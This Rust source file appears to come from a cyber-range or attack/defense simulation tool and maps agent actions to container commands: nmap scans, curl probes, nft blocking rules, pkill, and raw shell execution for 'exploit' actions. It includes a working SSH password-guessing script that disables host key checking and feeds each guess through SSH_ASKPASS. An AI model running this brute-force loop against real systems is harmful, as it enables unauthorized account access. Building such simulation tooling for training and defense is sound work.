//! What each agent action runs in its container: real tools (nmap, ssh, curl, nft, pkill),
//! argv wherever a shell is not needed, and script arguments passed as positional parameters
//! so nothing a template says is pasted into shell text.

use std::time::Duration;

use forge_core::template::{ActionKind, AgentAction};
use forge_runtime::ExecRequest;

/// Default seconds one action may run.
pub const DEFAULT_TIMEOUT: u64 = 30;
/// Output kept per action in the timeline.
pub const MAX_OUTPUT: usize = 2048;

/// Password guessing with OpenSSH's own client, one prompt per connection as brute-force
/// tools make them, so sshd logs each failure. The password comes from SSH_ASKPASS: /tmp is
/// noexec, so no helper script can be one; ssh runs `printenv "<user>@<host>'s password: "`,
/// which prints the variable of that name we put in its environment.
const SSH_GUESS: &str = r#"host=$1; port=$2; user=$3; shift 3
for pw in "$@"; do
  if env "$user@$host's password: =$pw" SSH_ASKPASS=/usr/bin/printenv SSH_ASKPASS_REQUIRE=force \
     timeout 10 ssh -n -p "$port" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
     -o PreferredAuthentications=password -o PubkeyAuthentication=no \
     -o NumberOfPasswordPrompts=1 -o ConnectTimeout=3 "$user@$host" true >/dev/null 2>&1; then
    echo "valid password for $user@$host"; exit 0
  fi
  echo "rejected: $user@$host"
done
exit 1"#;

/// Drops everything from one address, in and through the agent's container, in a table of
/// its own (re-adding the table and chains is idempotent).
const BLOCK: &str = r#"set -e
nft add table inet forge_defense
nft 'add chain inet forge_defense input { type filter hook input priority -10; }'
nft 'add chain inet forge_defense forward { type filter hook forward priority -10; }'
nft add rule inet forge_defense input ip saddr "$1" drop
nft add rule inet forge_defense forward ip saddr "$1" drop
echo "blocked $1""#;

/// The command an action runs (none for an alert) and how it is shown to the gate and in the
/// audit record.
pub struct Planned {
    pub exec: Option<ExecRequest>,
    pub shown: String,
}

/// Plans `act` aimed at `target` (already the agent's own address for untargeted actions).
pub fn plan(act: &AgentAction, target: &str) -> Planned {
    let timeout = Duration::from_secs(act.timeout_seconds.unwrap_or(DEFAULT_TIMEOUT));
    let argv = |v: Vec<String>| {
        let shown = shlex::try_join(v.iter().map(String::as_str)).unwrap_or_default();
        Planned {
            exec: Some(ExecRequest::argv(v)),
            shown,
        }
    };
    let script = |name: &str, body: &str, args: Vec<String>, shown: String| {
        let mut v = vec!["sh".into(), "-c".into(), body.into(), name.into()];
        v.extend(args);
        Planned {
            exec: Some(ExecRequest::argv(v)),
            shown,
        }
    };
    let s = |x: &str| x.to_owned();
    let planned = match act.kind {
        ActionKind::PortScan => {
            let ports = act.ports.clone().unwrap_or_else(|| "1-1024".into());
            argv(vec![
                s("nmap"),
                s("-Pn"),
                s("-n"),
                s("-sT"),
                s("--max-retries"),
                s("1"),
                s("--host-timeout"),
                format!("{}s", timeout.as_secs().saturating_sub(2).max(1)),
                s("-p"),
                ports,
                s("-oG"),
                s("-"),
                s(target),
            ])
        }
        ActionKind::SshGuess => {
            let port = act.port.unwrap_or(22).to_string();
            let user = act.user.clone().unwrap_or_default();
            let mut args = vec![s(target), port.clone(), user.clone()];
            args.extend(act.passwords.iter().cloned());
            let shown = format!(
                "ssh password guessing {user}@{target}:{port} ({} passwords)",
                act.passwords.len()
            );
            script("ssh_guess", SSH_GUESS, args, shown)
        }
        ActionKind::HttpProbe => {
            let port = act.port.unwrap_or(80);
            let path = act.path.clone().unwrap_or_else(|| "/".into());
            argv(vec![
                s("curl"),
                s("-sS"),
                s("--path-as-is"),
                s("-o"),
                s("/dev/null"),
                s("-w"),
                s("%{http_code}\n"),
                s("-m"),
                timeout.as_secs().saturating_sub(1).max(1).to_string(),
                format!("http://{target}:{port}{path}"),
            ])
        }
        ActionKind::Exploit | ActionKind::Exec => {
            let cmd = act.command.clone().unwrap_or_default();
            Planned {
                exec: Some(ExecRequest::shell(cmd.clone())),
                shown: cmd,
            }
        }
        ActionKind::Block => script(
            "block",
            BLOCK,
            vec![s(target)],
            format!("nft: drop every packet from {target}"),
        ),
        ActionKind::Kill => argv(vec![
            s("pkill"),
            s("-x"),
            act.process.clone().unwrap_or_default(),
        ]),
        ActionKind::Alert => Planned {
            exec: None,
            shown: format!("alert: {}", act.message.clone().unwrap_or_default()),
        },
    };
    Planned {
        exec: planned
            .exec
            .map(|r| r.timeout(timeout).max_output(64 * 1024)),
        shown: planned.shown,
    }
}

/// At most [`MAX_OUTPUT`] bytes of `s`, cut at a character boundary.
pub fn excerpt(s: &str) -> String {
    if s.len() <= MAX_OUTPUT {
        return s.to_owned();
    }
    let mut end = MAX_OUTPUT;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}
